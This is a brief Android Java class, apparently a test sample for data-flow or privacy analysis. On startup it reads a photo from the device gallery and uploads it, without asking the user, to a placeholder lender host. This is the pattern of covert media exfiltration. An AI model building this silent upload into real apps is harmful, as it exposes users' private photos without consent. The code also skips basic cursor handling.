package com.example.flows.photos_upload;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.net.wifi.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** A photo of the gallery is read and posted. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor cursor = getContentResolver().query(MediaStore.Images.Media.EXTERNAL_CONTENT_URI, null, null, null, null);
        String path = cursor.getString(cursor.getColumnIndex("_data"));
        try {
            FileInputStream in = new FileInputStream(new File(path));
            URL url = new URL("https://cdn.lender.example/photo");
            HttpURLConnection connection = (HttpURLConnection) url.openConnection();
            OutputStream out = new BufferedOutputStream(connection.getOutputStream());
            byte[] buffer = new byte[8192];
            int count;
            while ((count = in.read(buffer)) > 0) {
                out.write(buffer, 0, count);
            }
            out.close();
        } catch (IOException e) {
            finish();
        }
    }

}
